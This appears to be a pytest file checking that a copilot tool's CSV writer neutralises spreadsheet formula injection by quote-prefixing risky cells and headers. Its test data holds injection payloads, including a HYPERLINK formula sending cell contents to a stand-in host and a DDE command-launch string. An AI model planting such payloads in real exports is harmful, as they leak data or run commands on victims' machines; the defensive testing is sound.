"""CSV downloads: a database text that a spreadsheet would evaluate as a formula arrives as text."""

from __future__ import annotations

import csv
import io

import pandas as pd

from copilot_core.render_safety import csv_bytes
from copilot_core.tools.store import DataStore

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "plain note", "Q05 - ok"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_formula_cells_and_headers_are_neutralised_and_numbers_kept():
    frame = pd.DataFrame({"note": HOSTILE, "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, -8.25],
                          "=cmd()": ["a"] * len(HOSTILE)})
    rows = _cells(csv_bytes(frame))
    assert rows[0] == ["note", "value", "'=cmd()"]
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE[0], "'" + HOSTILE[1], "'-2+3", "'@SUM(A1:A9)", "'\t=1+1",
                                        "'\r=1+1", "plain note", "Q05 - ok"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.0", "-3.0", "4.0", "5.0", "6.0", "7.0", "-8.25"]


def test_the_copilot_datasets_download_through_the_same_writer():
    store = DataStore()
    store.put("notes", {}, pd.DataFrame({"message": ["=HYPERLINK(\"https://evil.example\")", "fine"]}))
    assert [r[0] for r in _cells(store.to_csv("notes"))] == ["message", "'=HYPERLINK(\"https://evil.example\")", "fine"]
